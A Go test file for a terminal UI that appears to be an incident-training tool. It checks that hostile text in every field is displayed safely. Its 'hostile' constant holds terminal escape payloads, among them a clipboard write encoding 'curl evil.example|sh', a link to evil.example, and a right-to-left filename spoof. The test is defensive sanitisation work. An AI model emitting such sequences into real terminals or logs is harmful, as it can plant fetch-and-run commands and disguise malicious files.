package train

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"testing"

	tea "github.com/charmbracelet/bubbletea"

	"github.com/signoff/signoff/model"
	"github.com/signoff/signoff/tui/safetext"
	"github.com/signoff/signoff/tui/tuitest"
)

// hostile is what an attacker writes into a free-text field: sequences a
// terminal acts on, and characters that hide or reorder text.
const hostile = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\" +
	"\x1b]0;owned\x07\x1b[2J\x1b[31;1mred\x1b[0m\u009b31m\u202egpj.exe\u2066\u200b\ufeff\U000E0041\x7f\x08\r\x00\x07\x1b]0;open "

// hostileIncident is the small incident as INC-9 with hostile text in
// every field a trainee may see, the scorecard's included.
func hostileIncident() model.Document {
	d := tuitest.SmallIncident()
	h := hostile
	d.Incident.ID, d.Incident.Title, d.Incident.Summary = "INC-9", "title "+h, "summary "+h
	for i := range d.People {
		d.People[i].Name += " " + h
	}
	d.Agents[0].Name, d.Agents[0].Model, d.Agents[0].Version = "agent "+h, "model "+h, "v "+h
	d.Assets[0].Kind = model.AssetKind("host")
	d.Evidence[0].Kind, d.Evidence[0].Summary, d.Evidence[0].URI = "edr "+h, "evidence "+h, "https://x/"+h
	e := d.Events
	e[0].Source, e[0].Summary, e[0].Detail = "edr "+h, "alert "+h, "detail "+h
	e[1].Action.Type, e[1].Action.Detail = "isolate_host", "cut "+h
	e[1].ConfidenceCue, e[1].Rationale, e[1].RawOutput = "cue "+h, "stop "+h, "raw "+h
	e[1].Alternatives = []model.Action{{Type: "block_ip", Target: "laptop-9", Detail: "alt " + h}}
	e[2].Action.Detail, e[2].Rationale = "cut "+h, "decided "+h
	e[2].AlternativesRejected = []model.RejectedAlternative{{Action: model.Action{Type: "rm", Detail: h}, Reason: "reason " + h}}
	e[3].Summary, e[3].Detail = "ran "+h, "detail "+h
	d.Reviews[0].Note = "note " + h
	return d
}

// unsafe says where a frame holds a character a terminal would act on,
// or one that hides text, "" when none.
func unsafe(frame string) string {
	for i, r := range frame {
		if r == '\n' {
			continue
		}
		if r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f || safetext.Hidden(r) {
			return fmt.Sprintf("%U at byte %d: %q", r, i, frame[max(0, i-30):min(len(frame), i+30)])
		}
	}
	return ""
}

// Every screen of a run (each row, the choice, the form, the reveal, the
// scorecard) shows hostile text as markers, at both sizes, with and
// without --anonymize, and with the trainee's hostile rationale.
func TestHostileTextInEveryFieldATraineeSeesIsShownNotActedOn(t *testing.T) {
	d := openFixtures(t)
	b, err := json.Marshal(hostileIncident())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := d.ImportDocument(context.Background(), "hostile.json", bytes.NewReader(b), "test"); err != nil {
		t.Fatal(err)
	}
	for _, anon := range []bool{false, true} {
		for _, size := range [][2]int{{80, 24}, {160, 48}} {
			t.Run(fmt.Sprintf("at %dx%d, anonymized %v", size[0], size[1], anon), func(t *testing.T) {
				m := newTestModel(t, d, "INC-9", "alice", size[0], size[1], func(o *Options) { o.Anonymize = anon })
				check := func(where string) {
					t.Helper()
					for _, frame := range []string{m.View(), m.content()} {
						if bad := unsafe(frame); bad != "" {
							t.Errorf("%s: %s", where, bad)
						}
					}
				}
				for i := 0; m.phase != phaseScore && i < 12; i++ {
					check(fmt.Sprintf("row %d", i))
					if m.phase == phaseChoose {
						press(t, m, "m")
						check("the form")
						// A modification changes the action; an unchanged one is refused.
						typeText(t, m, " then wait")
						press(t, m, "tab")
						for _, msg := range tuitest.Read("mine " + hostile) {
							drive(t, m, func() tea.Msg { return msg })
						}
						press(t, m, "enter")
						check("the reveal")
						continue
					}
					press(t, m, "space")
				}
				if m.phase != phaseScore {
					t.Fatalf("the run did not reach its scorecard: phase %d, %s", m.phase, m.status)
				}
				check("the scorecard")
			})
		}
	}
}
